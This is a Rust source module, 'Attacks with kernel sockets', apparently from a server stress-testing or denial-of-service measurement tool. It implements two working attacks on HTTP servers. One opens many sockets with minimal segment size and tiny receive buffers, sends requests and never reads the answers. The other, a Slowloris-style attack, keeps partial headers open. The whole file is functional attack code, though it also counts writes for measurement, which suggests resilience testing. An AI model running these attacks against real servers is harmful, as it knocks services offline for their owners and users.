//! Attacks with kernel sockets.

use super::{Course, Target};
use rustix::io::Errno;
use socket2::{Domain, Socket, Type};
use std::io::{self, ErrorKind, Write};
use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

/// MSS of a socket: the minimum that Linux permits.
const SEGMENT: u32 = 88;
/// Receive buffer of a socket; Linux raises it to its minimum.
const RECEIVE_BUFFER: usize = 2048;
const SEND_BUFFER: usize = 16 << 10;
/// Interval of writes to all sockets.
const PERIOD: Duration = Duration::from_millis(10);
/// Maximum number of connection attempts per interval.
const CONNECTS: usize = 100;
/// Part of an HTTP request that remains incomplete when repeated.
const UNFINISHED: &[u8] = b"GET /metrics HTTP/1.1\r\nA: a";
/// Consecutive intervals without a write after which the server counts as accepting no more: a second. After a shorter
/// pause the sockets could be between retransmissions of discarded segments, which start at 200 ms.
const REFUSALS: u32 = 100;
/// Interval of writes of [`UNFINISHED`].
const HEADER_PERIOD: Duration = Duration::from_millis(100);

/// Writes requests to `count` sockets and reads no answer. Reconnects if the server closes a connection.
pub fn do_not_read(target: &Target, count: usize, course: &Course) -> io::Result<()> {
    let requests: Vec<u8> = target.request.iter().copied().cycle().take(target.request.len().max(16 << 10)).collect();
    let to = SocketAddr::V4(target.address);
    write_on_all(count, PERIOD, true, course, || connect(to, true), &requests)
}

/// Sends an HTTP request on each of `count` sockets and extends its header without completing it.
pub fn half_open_requests(to: SocketAddr, count: usize, course: &Course) -> io::Result<()> {
    write_on_all(count, HEADER_PERIOD, false, course, || connect(to, false), UNFINISHED)
}

/// Writes `bytes` to all sockets every `period`, as far as buffers permit, and counts the writes. The attack starts
/// when all sockets are connected and, if `until_refused` is true, when all buffers have been full for a time; the
/// traffic until then is not part of the measurement.
fn write_on_all(
    count: usize,
    period: Duration,
    until_refused: bool,
    course: &Course,
    connect: impl Fn() -> io::Result<Socket>,
    bytes: &[u8],
) -> io::Result<()> {
    let mut sockets: Vec<Option<Socket>> = (0..count).map(|_| None).collect();
    let mut refusals = 0;
    while course.goes_on() {
        let mut written = 0;
        let begun = Instant::now();
        let mut connects = CONNECTS;
        for slot in &mut sockets {
            match slot {
                None if connects > 0 => {
                    connects -= 1;
                    *slot = Some(connect()?);
                }
                None => {}
                Some(socket) => match socket.write(bytes) {
                    Ok(_) => written += 1,
                    Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                    // The server has closed the connection.
                    Err(_) => *slot = None,
                },
            }
        }
        course.count(written);
        refusals = if written == 0 { refusals + 1 } else { 0 };
        if sockets.iter().all(Option::is_some) && (!until_refused || refusals >= REFUSALS) {
            course.begin();
        }
        thread::sleep(period.saturating_sub(begun.elapsed()));
    }
    Ok(())
}

fn connect(to: SocketAddr, has_small_buffers: bool) -> io::Result<Socket> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM.nonblocking(), None)?;
    if has_small_buffers {
        socket.set_tcp_mss(SEGMENT)?;
        socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
        socket.set_send_buffer_size(SEND_BUFFER)?;
        socket.set_tcp_nodelay(true)?;
    }
    match socket.connect(&to.into()) {
        Err(error) if error.raw_os_error() != Some(Errno::INPROGRESS.raw_os_error()) => Err(error),
        _ => Ok(socket),
    }
}
